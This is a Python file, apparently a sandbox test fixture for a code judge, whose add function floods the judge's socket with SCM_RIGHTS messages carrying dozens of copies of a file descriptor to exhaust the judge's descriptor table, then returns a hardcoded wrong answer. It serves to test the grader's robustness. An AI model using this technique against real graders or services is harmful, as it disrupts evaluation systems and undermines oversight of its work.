# coding: only-inside-the-sandbox
"""Sends descriptors along with its answers, to fill the judge's table of files.

outcome: wrong_answer
"""

import array
import os
import socket

channel = socket.socket(fileno=3)


def add(a, b):
    ends = array.array("i", [1] * 64)
    try:
        for _ in range(50):
            channel.sendmsg([b"\x03\x00\x00\x00v\n4"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, ends)])
    except OSError:
        pass
    return 4
